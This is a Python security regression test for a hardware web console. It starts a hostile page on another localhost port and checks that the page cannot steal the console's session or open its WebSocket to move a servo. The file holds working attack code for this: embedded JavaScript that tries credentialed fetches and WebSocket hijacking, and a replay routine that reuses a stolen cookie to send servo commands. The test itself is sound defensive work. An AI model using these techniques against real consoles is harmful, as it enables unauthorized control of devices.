"""The web console's session is its own origin's (issue 43.2), in a real browser (Playwright,
Debian's Chromium): the owner logs in to a console with a token; a hostile page served from
another port of 127.0.0.1 - opened in the same browser - and the server behind it try every way
in.  Cookies do not isolate ports: before, the browser sent the console's ``ml_session`` cookie
with the hostile page's own requests, and the hostile server opened the console's WebSocket with
it (as a script: no ``Origin``) and moved the servo.  Now the console sets no cookie; the page
keeps its session in ``sessionStorage`` (its origin's, port included) and sends it as the
WebSocket's first message, where it is taken only from the origin that logged in."""

from __future__ import annotations

import asyncio
import http.server
import json
import re
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import websockets

from .helpers import ML
from .test_web_browser import board, browser, daemon  # noqa: F401 - (browser: a fixture)

pytestmark = pytest.mark.slow

EVIL = """<!doctype html><meta charset=utf-8><title>cats</title><script>
const target = "127.0.0.1:%d";
async function attack() {
  const out = {storage: sessionStorage.getItem("ml_session")};
  try {
    const r = await fetch("http://" + target + "/login", {credentials: "include"});
    out.login = r.status;
  } catch (e) { out.login = "blocked"; }
  out.ws = await new Promise((done) => {
    let ws;
    try { ws = new WebSocket("ws://" + target + "/ws"); } catch (e) { return done("threw"); }
    ws.onopen = () => {
      ws.send(JSON.stringify({op: "auth", session: out.storage || ""}));
      ws.send(JSON.stringify({op: "command", id: 7, topic: "/board_a/servo/cmd", value: 40}));
    };
    ws.onmessage = (ev) => { const m = JSON.parse(ev.data); if (m.op === "reply") done(m); };
    ws.onclose = (ev) => done("closed " + ev.code);
    setTimeout(() => done("no answer"), 5000);
  });
  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
}
attack();
</script>"""


class Hostile(http.server.BaseHTTPRequestHandler):
    """Another local server: its page, and what the browser sends it (its cookies too)."""

    page = b""
    cookies: list[str] = []
    reports: list[dict[str, Any]] = []

    def do_GET(self) -> None:
        self.cookies.append(self.headers.get("Cookie", ""))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page)

    def do_POST(self) -> None:
        self.cookies.append(self.headers.get("Cookie", ""))
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.reports.append(json.loads(body))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@contextmanager
def hostile_server(console_port: int) -> Iterator[tuple[int, type[Hostile]]]:
    handler = type("H", (Hostile,), {"page": (EVIL % console_port).encode(), "cookies": [],
                                     "reports": []})  # fmt: skip
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], handler
    finally:
        server.shutdown()
        thread.join(5)


async def replay(console_port: int, cookie: str) -> str:
    """What the hostile server does with what it got: the console's WebSocket as a script (no
    Origin), the stolen cookie in its header and as a session, then a servo command."""
    sid = cookie.split("ml_session=", 1)[1].split(";")[0] if "ml_session=" in cookie else cookie
    url = f"ws://127.0.0.1:{console_port}/ws"
    try:
        async with websockets.connect(url, additional_headers={"Cookie": cookie}) as ws:
            await ws.send(json.dumps({"op": "auth", "session": sid}))
            await ws.send(json.dumps({"op": "command", "id": 1, "topic": "/board_a/servo/cmd",
                                      "value": 40}))  # fmt: skip
            while True:
                m = json.loads(await asyncio.wait_for(ws.recv(), 5))
                if m["op"] == "reply":
                    return f"reply ok={m['ok']}"
    except websockets.ConnectionClosed as e:
        return f"closed {e.rcvd.code if e.rcvd else '?'}"
    except websockets.InvalidStatus as e:
        return f"refused {e.response.status_code}"


def test_a_page_on_another_local_port_gets_nothing(
    browser: Any,  # noqa: F811 - (the fixture)
    tmp_path: Path,
) -> None:
    from playwright.sync_api import expect

    token = tmp_path / "token"
    subprocess.run([*ML, "key", "new", str(token)], check=True)
    with daemon(tmp_path, {"board_a": "encoder_servo"}, f'token_file = "{token}"') as (url, _env):
        console_port = int(re.search(r":(\d+)/?$", url).group(1))  # type: ignore[union-attr]
        page = browser.new_page()
        page.goto(url)
        field = page.get_by_label("Token")
        field.fill(token.read_text().strip())
        field.press("Enter")
        servo = board(page, "board_a").get_by_role("article").filter(has_text="servo")
        expect(servo.locator(".value")).to_have_text("no value yet", timeout=10000)
        with hostile_server(console_port) as (port, got):
            evil = browser.new_page()
            evil.goto(f"http://127.0.0.1:{port}/")
            for _ in range(100):
                if got.reports:
                    break
                evil.wait_for_timeout(100)
            evil.close()
            stolen = next((c for c in got.cookies if c), "")
            with ThreadPoolExecutor(1) as pool:  # (Playwright's loop runs on this thread)
                replayed = pool.submit(asyncio.run, replay(console_port, stolen)).result(30)
        page.wait_for_timeout(1000)
        expect(servo.locator(".value")).to_have_text("no value yet")  # it never moved
        assert page.evaluate("sessionStorage.getItem('ml_session')")  # (the owner's page has it)
        page.close()
    (report,) = got.reports
    assert "ml_session" not in stolen, stolen  # no credential went to the other port
    assert report["storage"] is None and report["login"] in ("blocked", 403), report
    assert report["ws"] in ("closed 1006", "no answer") or str(report["ws"]).startswith("closed"), (
        report
    )  # (the door refused its Origin: the socket never opened)
    assert replayed in ("closed 4401", "refused 403"), replayed
